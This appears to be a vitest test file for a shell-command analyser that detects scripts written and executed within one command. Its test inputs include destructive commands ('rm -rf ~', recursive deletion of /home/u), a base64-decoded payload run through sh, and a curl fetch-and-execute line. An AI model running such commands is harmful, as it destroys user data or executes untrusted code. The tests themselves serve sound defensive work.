// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text is full of them
import { describe, expect, it } from 'vitest';
import { isUncertain, planCommand, programs, touches } from '../planning.ts';

describe('a script that the call itself writes', () => {
  it.each([
    ['a here-document', "cat > /tmp/b.sh <<'E'\nrm -rf /home/u\nE\nbash /tmp/b.sh"],
    ['echo', 'echo "rm -rf ~" > a.sh && sh a.sh'],
    ['its own name', 'echo "rm -rf ~" > a.sh && chmod +x a.sh && ./a.sh'],
    ['its first line', "printf '#!/usr/bin/env bash\\nrm -rf ~\\n' > a && chmod +x a && ./a"],
    ['tee, and sourced', "printf 'rm -rf ~\\n' | tee x.sh; . ./x.sh"],
    ['a second line', "echo ls > a.sh; echo 'rm -rf ~' >> a.sh; bash a.sh"],
    ['behind a wrapper', "echo 'rm -rf ~' > /tmp/a.sh; nohup timeout 5 bash /tmp/a.sh &"],
    ['python', "cat > /tmp/c.py <<'E'\nimport shutil\nshutil.rmtree('/home/u')\nE\npython3 /tmp/c.py"],
    [
      'python by its own name',
      "cat > c <<'E'\n#!/usr/bin/python3\nimport shutil\nshutil.rmtree('/home/u')\nE\nchmod +x c; ./c",
    ],
  ])('is planned as what runs it: %s', (_, command) => {
    expect(touches(planCommand(command))).toContain('delete /home/u -r');
  });

  it('leaves no doubt when its text is understood', () => {
    expect(isUncertain(planCommand("cat > /tmp/t.sh <<'E'\nnpm test\nE\nbash /tmp/t.sh"))).toBe(false);
    expect(isUncertain(planCommand('bash /tmp/t.sh'))).toBe(true);
  });

  it('plans each text that the file may hold', () => {
    const planned = planCommand("if x; then echo 'rm a' > s; else echo 'rm b' > s; fi; sh s");
    expect(touches(planned)).toEqual(expect.arrayContaining(['delete /ws/a', 'delete /ws/b']));
  });

  it.each([
    ['another program wrote into it', 'echo ls > a.sh; make >> a.sh; sh a.sh'],
    ['it was there before', 'echo ls > a.sh; sed -i s/ls/x/ a.sh; bash a.sh'],
    ['errors are written into it', 'echo ls > a.sh; make 2> a.sh; bash a.sh'],
  ])('is not known to the byte where %s', (_, command) => {
    expect(isUncertain(planCommand(command))).toBe(true);
  });

  it('still comes from the network or out of a decoder', () => {
    const flows = (command: string) => planCommand(command).operations.flatMap(({ flow }) => flow);
    expect(flows('echo bHM= | base64 -d > /tmp/x; sh /tmp/x')).toContainEqual({ from: 'decode', to: 'exec' });
    expect(flows('curl -s https://h.example/x > /tmp/x; sh /tmp/x')).toContainEqual({
      from: 'network',
      to: 'exec',
    });
  });

  it('ends when it calls itself', () => {
    expect(planCommand("echo '. ./a.sh; . ./a.sh' > a.sh; . ./a.sh").problems).not.toEqual([]);
  });
});

describe('a program that the call itself compiles', () => {
  const traits = (command: string) => planCommand(command).operations.at(-1)?.traits;

  it('is work of the project wherever it lies', () => {
    expect(traits('gcc -O2 -o /tmp/a.out src/main.c && /tmp/a.out')).toContain('project-task');
    expect(traits('go build -o /tmp/app ./cmd/app && /tmp/app')).toContain('project-task');
  });

  it('is another one when its path is', () => {
    expect(traits('gcc -o /tmp/a.out src/main.c && /tmp/b.out')).not.toContain('project-task');
  });

  it('is only trusted where it was made', () => {
    const made = planCommand('gcc -o /tmp/a.out src/main.c && /tmp/a.out').operations.at(-1);
    const named = planCommand('/tmp/npm test').operations.at(-1);
    expect([made?.program?.trusted, named?.program?.trusted]).toEqual([true, false]);
  });
});

it('takes what a script is not told to run for data', () => {
  expect(programs(planCommand("cat > notes.md <<'E'\nrm -rf ~\nE\ncat notes.md"))).not.toContain('rm');
});
